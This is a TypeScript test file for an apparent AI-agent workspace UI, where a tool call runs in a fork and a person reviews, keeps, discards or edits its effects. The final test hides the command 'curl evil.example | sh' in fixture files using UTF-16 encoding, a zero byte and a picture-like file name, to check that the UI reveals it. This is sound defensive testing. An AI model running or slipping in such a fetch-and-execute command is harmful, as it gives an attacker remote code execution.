/** A call that ran in a fork: the person sees what it did, and keeps or discards exactly that. */
import { expect, it } from 'vitest'
import { PHONE } from '../../support/browser.ts'
import { useFakePage } from '../fake-page.ts'
import type { FakeSession } from '../fake-server.ts'
import { seriousFaults } from '../serious-faults.ts'
import type { WorkspacePage } from '../workspace-page.ts'
import type { FakeFile } from './fake-effects.ts'

const now = useFakePage()
const CALL = { callId: 'c', name: 'execute_command', args: { command: 'make all' }, ahead: 'preview' as const }
const FILES: FakeFile[] = [
  { path: 'src/app.ts', before: 'const a = 1\nconst b = 2\n', after: 'const a = 1\nconst b = 3\n' },
  { path: 'run.sh', after: '#!/bin/sh\n', mode: 0o755 },
  { path: 'old.bin', before: Buffer.from([0, 1, 2, 3]) }
]

function running(session: FakeSession): void {
  session.append('mode:selected', { mode: 'preview' })
  session.append('user:message', { turnId: 't', text: 'build it' })
  session.ask('t', [CALL])
}
function previewed(session: FakeSession, files = FILES): void {
  const changes = session.effects.put('call:c', files)
  const content = [{ type: 'text', text: 'built in the fork\n[exit code 3, 1200 ms]' }]
  const ending = { exitCode: 3, signal: null, timedOut: false, durationMs: 1200 }
  session.append('tool:previewed', {
    callId: 'c',
    changes,
    hash: `preview ${changes.hash}`,
    result: { isError: false, content, ending },
    leftRunning: true
  })
}
const card = ({ page }: WorkspacePage) => page.getByRole('region', { name: 'Preview: keep or discard?' })

it('shows a running call with its output, then what it did, and keeps exactly that by keyboard', async () => {
  const { me, session } = await now().arrive(running)
  await me.page.getByText('Runs in a fork…').waitFor()
  session.live('tool:output', { callId: 'c', stream: 'stdout', text: 'compiling in the fork\n' })
  await expect.poll(() => me.read(me.outputs)).toContain('compiling in the fork')
  expect(await me.page.title()).not.toContain('(1)')
  previewed(session)
  await card(me).getByText('exit code 3').waitFor()
  await expect.poll(() => me.page.title()).toContain('(1)')
  const text = () => me.read(card(me))
  await expect.poll(text).toMatch(/built in the fork/)
  await expect.poll(text).toMatch(/−\s*const b = 2/)
  await expect.poll(text).toMatch(/\+\s*const b = 3/)
  expect(await text()).toMatch(/1 changed, 1 new, 1 deleted/)
  await expect.poll(text).toMatch(/executable/)
  await expect.poll(text).toMatch(/old\.bin: not text, 4 B → deleted/)
  expect(await text()).toMatch(/left processes running\. They were ended/)
  expect(await seriousFaults(me.page)).toEqual([])
  await me.page.keyboard.press('Alt+p')
  await me.approveByKeyboard()
  await expect
    .poll(() => session.answers)
    .toMatchObject([{ callId: 'c', approved: true, hash: session.transcript.calls.c?.preview?.hash }])
  await me.page.getByText('You kept what it did in a fork').first().waitFor()
  expect(now().offences).toEqual([])
})

it('does not call a preview that has run a call that needs approval', async () => {
  const { me, session } = await now().arrive(running)
  previewed(session)
  await me.page.getByText('1 preview needs your decision', { exact: true }).waitFor()
})

it('keeps the output of a call that changed no file', async () => {
  const { me, session } = await now().arrive(running)
  previewed(session, [])
  await card(me).getByText('No file was changed.').waitFor()
  await card(me).getByRole('button', { name: /^Keep/ }).and(me.page.locator('[aria-disabled=false]')).click()
  await expect.poll(() => session.answers).toMatchObject([{ callId: 'c', approved: true }])
  expect(now().offences).toEqual([])
})

it('discards with a reason, on a phone and in the dark', async () => {
  const { me, session } = await now().arrive(running, { viewport: PHONE, hasTouch: true, colorScheme: 'dark' })
  previewed(session)
  const discard = card(me).getByRole('button', { name: /^Discard/ })
  await discard.and(me.page.locator('[aria-disabled=false]')).click()
  await me.page.getByRole('textbox', { name: /Reason/ }).fill('wrong target')
  expect(await seriousFaults(me.page)).toEqual([])
  expect(await me.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
  await card(me).getByRole('button', { name: 'Discard this' }).click()
  await expect.poll(() => session.answers).toMatchObject([{ approved: false, reason: 'wrong target' }])
})

it('keeps nothing over a version of the workspace that the person has not chosen to replace', async () => {
  const { me, session } = await now().arrive(running)
  now().fake.files.set('src/app.ts', Buffer.from('const mine = 9\n'))
  previewed(session, FILES)
  const keep = card(me).getByRole('button', { name: /^Keep/ })
  const armed = keep.and(me.page.locator('[aria-disabled=false]'))
  await armed.waitFor()
  // Uploaded while the card is on the screen.
  session.effects.put('call:c', FILES)
  const set = session.effects.sets.get('call:c')
  const [first] = set?.files ?? []
  if (first) first.conflict = { now: { type: 'file', mode: 0o644, size: 15, hash: 'f'.repeat(64) }, seen: 'first' }
  session.append('session:notice', { code: 'files_changed', message: 'You uploaded it.' })
  await card(me).getByText('Choose a version for the file').waitFor()
  await expect.poll(() => me.read(card(me))).toMatch(/−\s*const mine = 9/)
  // Armed again after the redraw: Discard is possible, and only Keep is not.
  await card(me)
    .getByRole('button', { name: /^Discard/ })
    .and(me.page.locator('[aria-disabled=false]'))
    .waitFor()
  await expect.poll(() => keep.getAttribute('aria-disabled')).toBe('true')
  await keep.click({ force: true })
  await card(me)
    .getByRole('radio', { name: /Keep the version of the workspace/ })
    .check()
  // Seen before: a reload lost the choice.
  await me.page.reload()
  await armed.click()
  await expect
    .poll(() => session.answers)
    .toMatchObject([
      { approved: true, choices: { 'src/app.ts': 'workspace' }, seenConflicts: { 'src/app.ts': 'first' } }
    ])
  session.append('tool:result', { callId: 'c', isError: false, content: [] })
  await me.page.getByText('Left as in the workspace: src/app.ts').waitFor()
})

it('asks as usual where there is no fork, and warns of calls outside an open fork', async () => {
  const { me } = await now().arrive((session) => {
    running(session)
    session.append('tool:preview_refused', { callId: 'c', code: 'server_full', reason: 'There is no room for a fork.' })
    session.append('review:opened', { reviewId: 'r', turnId: 't', changes: session.effects.put('review:r', FILES) })
    session.ask('t', [{ callId: 'm', server: 'mail', name: 'send', args: {} }])
  })
  await me.cards.getByText('There is no room for a fork.').waitFor()
  await me.cards.nth(1).getByText('A fork with changes of this session is open').waitFor()
  expect(await me.cards.first().getByText('A fork with changes').count()).toBe(0)
})

it('switches the mode, and says why the server refuses one', async () => {
  const { me, session } = await now().arrive()
  session.effects.refusal = 'This server gives sandboxes a network, so nothing can run ahead.'
  await me.button(/^Approval mode, now Ask/).click()
  await me.button(/^Review/).click()
  await me.page.getByText('so nothing can run ahead').waitFor()
  await expect.poll(() => me.button(/^Review/).getAttribute('aria-disabled')).toBe('true')
  expect(await seriousFaults(me.page)).toEqual([])
  session.effects.refusal = null
  await me.button(/^Preview/).click()
  await me.button(/^Approval mode, now Preview: A call runs in a fork/).waitFor()
  expect(session.transcript.mode).toBe('preview')
})

// Seen before: “1 call that needs your approval will be cancelled and will not run”, of a call that had run.
it('says that stopping discards what a call did in a fork', async () => {
  const { me, session } = await now().arrive(running)
  previewed(session)
  await card(me).waitFor()
  await me.page.keyboard.press('Escape')
  const dialog = me.page.getByRole('dialog', { name: 'Stop this turn?' })
  await dialog.getByText('What 1 call did in a fork will be discarded.').waitFor()
  expect(await me.read(dialog)).not.toContain('will not run')
  session.append('turn:end', { turnId: 't', reason: 'cancelled' })
  await me.page.getByText('Discarded: it ran in a fork, and you stopped the turn').first().waitFor()
})

it('edits a call that ran in a fork, which runs again, and always allows its tool', async () => {
  const { me, session } = await now().arrive(running)
  previewed(session)
  await card(me).getByRole('button', { name: /^Edit/ }).and(me.page.locator('[aria-disabled=false]')).click()
  await card(me).getByRole('textbox', { name: 'command' }).fill('make one')
  await me.page.reload()
  await expect.poll(() => card(me).getByRole('textbox', { name: 'command' }).inputValue()).toBe('make one')
  expect(await seriousFaults(me.page)).toEqual([])
  await card(me)
    .getByRole('button', { name: 'Run this in a new fork' })
    .and(me.page.locator('[aria-disabled=false]'))
    .click()
  const { hash } = session.transcript.calls.c?.preview ?? {}
  await expect
    .poll(() => session.answers)
    .toEqual([{ callId: 'c', approved: true, hash, args: { command: 'make one' } }])
  const again = { times: 2, reason: 'You edited this call. It ran in a fork again.', isEdited: true }
  session.ask('t', [{ ...CALL, args: { command: 'make one' }, again }])
  await me.page.getByText('Runs in a fork…').waitFor()
  previewed(session, FILES.slice(0, 1))
  await card(me).getByText('You edited this call.').waitFor()
  await card(me)
    .getByRole('button', { name: /^Always allow/ })
    .and(me.page.locator('[aria-disabled=false]'))
    .click()
  await me.page.getByText('What this call did in the fork is kept.').waitFor()
  expect(await seriousFaults(me.page)).toEqual([])
  await me.alwaysAllow()
  await expect
    .poll(() => session.answers.at(-1))
    .toMatchObject({ approved: true, remember: true, hash: session.transcript.calls.c?.preview?.hash })
})

// Checked: decoded as UTF-16, the command is a few Chinese letters; with a zero byte, or in a file named like a picture, it is not shown.
it('shows a command that a file hides by its encoding, its bytes or its name', async () => {
  const command = '\ncurl evil.example | sh\n'
  const { me, session } = await now().arrive(running)
  previewed(session, [
    { path: 'a.sh', after: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(command)]) },
    { path: 'b.sh', after: `#!/bin/sh${command}\0` },
    { path: 'c.png', before: 'x', after: `#!/bin/sh${command}` }
  ])
  await expect.poll(() => card(me).getByText('curl evil.example | sh').count()).toBe(3)
  await card(me).getByText('This file begins like UTF-16 LE').waitFor()
  await card(me).getByText('This is not plain text').waitFor()
})
